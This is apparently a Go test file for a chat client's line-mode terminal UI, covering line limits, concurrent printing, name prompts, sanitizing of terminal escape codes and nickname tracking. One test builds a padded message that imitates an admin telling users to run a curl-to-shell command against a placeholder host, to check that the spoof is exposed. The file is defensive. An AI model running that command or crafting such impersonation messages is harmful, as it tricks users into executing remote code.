package tui

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"chatroom/host/wire"
	"chatroom/join"
	"github.com/mattn/go-runewidth"
)

// readAll reads lines from ui until an error, which it returns with them.
func readAll(ui join.UI) ([]string, error) {
	var lines []string
	for {
		line, err := ui.ReadLine()
		if err != nil {
			return lines, err
		}
		lines = append(lines, line)
	}
}

func TestLineUIReadLine(t *testing.T) {
	const report = "!! line not sent: longer than 4000 bytes\n"
	longest := strings.Repeat("é", wire.MaxText/2) // 4000 bytes, 2000 characters
	for _, tc := range []struct {
		name  string
		in    string
		lines []string
		out   string
	}{
		{"lines", "a\nb b\n\nc\n", []string{"a", "b b", "", "c"}, ""},
		{"crlf", "a\r\nb\r\n", []string{"a", "b"}, ""},
		{"last line without newline", "a\nb", []string{"a", "b"}, ""},
		{"empty input", "", nil, ""},
		{"exactly the limit", longest + "\r\n", []string{longest}, ""},
		{"one byte over", "x" + longest + "\nnext\n", []string{"next"}, report},
		{"far over", strings.Repeat("x", 5*wire.MaxText) + "\nnext\n", []string{"next"}, report},
		{"over at the end without newline", "a\n" + strings.Repeat("x", 2*wire.MaxText), []string{"a"}, report},
		{"two long lines", strings.Repeat("x", 4097) + "\n" + strings.Repeat("y", 4097) + "\nz", []string{"z"}, report + report},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var out bytes.Buffer
			lines, err := readAll(NewLineUI(strings.NewReader(tc.in), &out))
			if err != io.EOF {
				t.Errorf("ended with %v, want io.EOF", err)
			}
			if !slices.Equal(lines, tc.lines) {
				t.Errorf("lines %q, want %q", abbreviate(lines), abbreviate(tc.lines))
			}
			if out.String() != tc.out {
				t.Errorf("printed %q, want %q", out.String(), tc.out)
			}
		})
	}
}

func abbreviate(lines []string) []string {
	var short []string
	for _, l := range lines {
		if len(l) > 20 {
			l = fmt.Sprintf("%s...(%d bytes)", l[:10], len(l))
		}
		short = append(short, l)
	}
	return short
}

type failingReader struct{}

func (failingReader) Read([]byte) (int, error) { return 0, errors.New("disk on fire") }

func TestLineUIReadError(t *testing.T) {
	_, err := NewLineUI(failingReader{}, io.Discard).ReadLine()
	if err == nil || err == io.EOF {
		t.Errorf("ReadLine: %v, want the reader's error", err)
	}
}

// TestLineUIPrintIsSafeConcurrently prints from many goroutines at once;
// every line must come out whole (and the race detector must stay quiet).
func TestLineUIPrintIsSafeConcurrently(t *testing.T) {
	var out bytes.Buffer
	ui := NewLineUI(strings.NewReader(""), &out)
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 100 {
				ui.(*lineUI).print(fmt.Sprintf("goroutine %d line %03d %s", g, i, strings.Repeat("-", 50)))
			}
		}()
	}
	wg.Wait()
	lines := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	if len(lines) != 800 {
		t.Fatalf("%d lines, want 800", len(lines))
	}
	for _, l := range lines {
		var g, i int
		if n, _ := fmt.Sscanf(l, "goroutine %d line %d", &g, &i); n != 2 || !strings.HasSuffix(l, " "+strings.Repeat("-", 50)) {
			t.Fatalf("mangled line %q", l)
		}
	}
}

func TestLineUIAskName(t *testing.T) {
	t.Run("not interactive", func(t *testing.T) {
		var out bytes.Buffer
		ui := NewLineUI(strings.NewReader("bob2\n"), &out)
		if name, ok := ui.AskName("taken"); ok || name != "" {
			t.Errorf("AskName = %q, %v; want no asking", name, ok)
		}
		if out.Len() != 0 {
			t.Errorf("printed %q", out.String())
		}
		if line, _ := ui.ReadLine(); line != "bob2" {
			t.Errorf("AskName consumed input: next line %q", line)
		}
	})
	for _, tc := range []struct {
		in   string
		name string
		ok   bool
	}{
		{"  bob2 \nhi\n", "bob2", true},
		{"\nhi\n", "", false},
		{"", "", false},
	} {
		t.Run(fmt.Sprintf("interactive %q", tc.in), func(t *testing.T) {
			var out bytes.Buffer
			ui := NewInteractiveLineUI(strings.NewReader(tc.in), &out)
			name, ok := ui.AskName("the name \x1b[1mbob\x1b[0m is taken")
			if name != tc.name || ok != tc.ok {
				t.Errorf("AskName = %q, %v; want %q, %v", name, ok, tc.name, tc.ok)
			}
			if want := "!! the name ^[[1mbob^[[0m is taken\nanother name (empty to give up): "; out.String() != want {
				t.Errorf("printed %q, want %q", out.String(), want)
			}
		})
	}
}

// The tests below run join.Join in line mode, with a fake room.

func TestJoinRefusalsInLineMode(t *testing.T) {
	for _, code := range []string{wire.CodeNameTaken, wire.CodeNameInvalid, wire.CodeWrongPassword, wire.CodeBanned} {
		t.Run(code, func(t *testing.T) {
			dial, wait := scriptDialer(t, refuse(code, "no \x1b[2J way"))
			var out bytes.Buffer
			ui := NewLineUI(strings.NewReader("bob2\n"), &out)
			err := join.Join(context.Background(), dial, join.Options{Name: "bob"}, ui)
			var refused *join.RefusedError
			if !errors.As(err, &refused) || refused.Code != code {
				t.Fatalf("Join: %v (%T), want *join.RefusedError %s", err, err, code)
			}
			if err.Error() != "no ^[[2J way" {
				t.Errorf("error %q, want the host's text, sanitized", err)
			}
			if n := wait(); n != 1 {
				t.Errorf("dialed %d times, want 1", n)
			}
			if out.Len() != 0 {
				t.Errorf("printed %q, want nothing", out.String())
			}
		})
	}
}

func TestJoinInteractiveLineUIAsksAtInput(t *testing.T) {
	dial, _ := scriptDialer(t,
		refuse(wire.CodeNameTaken, `the name "bob" is taken`),
		func(h *fakeHost) {
			h.welcome(1)
			h.expect(wire.TypeSay, "hi")
			h.expect(wire.TypeSay, "/quit")
			closedLeft(h)
		})
	var out bytes.Buffer
	ui := NewInteractiveLineUI(strings.NewReader("bob2\nhi\n"), &out)
	if err := join.Join(context.Background(), dial, join.Options{Name: "bob"}, ui); err != nil {
		t.Fatalf("Join: %v", err)
	}
	want := "!! the name \"bob\" is taken\nanother name (empty to give up): " +
		"joined \"Lab 3\" as bob2 (1 here: bob2)\n"
	if out.String() != want {
		t.Errorf("printed\n%q\nwant\n%q", out.String(), want)
	}
}

func TestJoinLongLinesAreNotSent(t *testing.T) {
	longest := strings.Repeat("y", wire.MaxText)
	dial, _ := scriptDialer(t, func(h *fakeHost) {
		h.welcome(1)
		// The over-long lines never arrive: the next frame after the
		// welcome is the line that follows them.
		h.expect(wire.TypeSay, "hi")
		h.expect(wire.TypeSay, longest)
		h.expect(wire.TypeSay, "/quit")
		closedLeft(h)
	})
	in := strings.Repeat("x", wire.MaxText+1) + "\n" +
		"hi\r\n" +
		strings.Repeat("z", 3*wire.MaxText) + "\n" +
		longest + "\n"
	var out bytes.Buffer
	if err := join.Join(context.Background(), dial, join.Options{Name: "bob"}, NewLineUI(strings.NewReader(in), &out)); err != nil {
		t.Fatalf("Join: %v", err)
	}
	const report = "!! line not sent: longer than 4000 bytes\n"
	if n := strings.Count(out.String(), report); n != 2 {
		t.Errorf("output %q reports %d long lines, want 2", out.String(), n)
	}
}

// TestLineUIFollowsOwnNick: after the person's own /nick, line mode knows
// them by the new name: a private message they send shows as theirs, and
// a mention of the new name is theirs, not someone else's.
func TestLineUIFollowsOwnNick(t *testing.T) {
	welcome := wire.Frame{Seq: 5, Room: &wire.Room{Name: "Lab 3", ID: "0123456789abcdef"},
		You: &wire.Member{Name: "bob", Role: wire.RoleMember}, Members: []wire.Member{{Name: "bob", Role: wire.RoleMember}, {Name: "cy", Role: wire.RoleMember}}}
	r, send := liveRoster(t, welcome)
	var out bytes.Buffer
	ui := NewLineUI(strings.NewReader(""), &out)
	ui.Enter(welcome, r)
	send(wire.Frame{Type: wire.TypeEvent, Kind: wire.KindNick, Time: testTime, Name: "bob", NewName: "rob"})
	out.Reset()
	ui.Show(wire.Frame{Type: wire.TypeEvent, Kind: wire.KindNick, Seq: 7, Time: testTime, Name: "cy", NewName: "bob"}, join.Live)
	if got := out.String(); !strings.Contains(got, "cy is now known as bob") {
		t.Errorf("another's change to the person's old name shows as %q, want it as cy's", got)
	}
}

// TestLineModeAtTerminalMarksContinuations is the attack of a message
// padded with blanks so that, wrapped by a terminal, its tail starts a
// row as if it were a line of another member's ("07:08 <admin2> please
// everyone run: …"), in line mode with output to a terminal (input
// piped): the line is cut into rows as the prompt cuts them, every row
// after the first starts with the continuation mark, and the rows hold
// the whole line. Output that is not a terminal keeps one line a line.
func TestLineModeAtTerminalMarksContinuations(t *testing.T) {
	const width = 40
	at := time.Date(2026, 12, 3, 7, 8, 0, 0, time.Local)
	padded := strings.Repeat(" ", width-len("07:08 <mallory> ")) + "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
	say := wire.Frame{Type: wire.TypeEvent, Seq: 9, Time: at, Kind: wire.KindSay, From: "mallory", Text: padded}

	var out bytes.Buffer
	ui := newLineUI(strings.NewReader(""), &out)
	ui.width = func() int { return width }
	ui.Show(say, join.Live)
	rows := strings.Split(strings.TrimSuffix(out.String(), "\n"), "\n")
	if len(rows) < 2 {
		t.Fatalf("a line longer than the terminal came as %d row: %q", len(rows), rows)
	}
	var whole strings.Builder
	for i, row := range rows {
		if runewidth.StringWidth(row) >= width {
			t.Errorf("row %d is %d columns wide on a terminal of %d: %q", i, runewidth.StringWidth(row), width, row)
		}
		if i == 0 {
			whole.WriteString(row)
			continue
		}
		rest, ok := strings.CutPrefix(row, contMark)
		if !ok {
			t.Errorf("row %d does not start with the continuation mark: %q", i, row)
		}
		whole.WriteString(rest)
	}
	// To a pipe (no width): one line, which the rows hold whole.
	var piped bytes.Buffer
	plain := newLineUI(strings.NewReader(""), &piped)
	plain.Show(say, join.Live)
	if n := strings.Count(piped.String(), "\n"); n != 1 {
		t.Errorf("to a pipe the line came as %d lines: %q", n, piped.String())
	}
	if want := strings.TrimSuffix(piped.String(), "\n"); whole.String() != want {
		t.Errorf("the rows hold %q, want %q", whole.String(), want)
	}
}
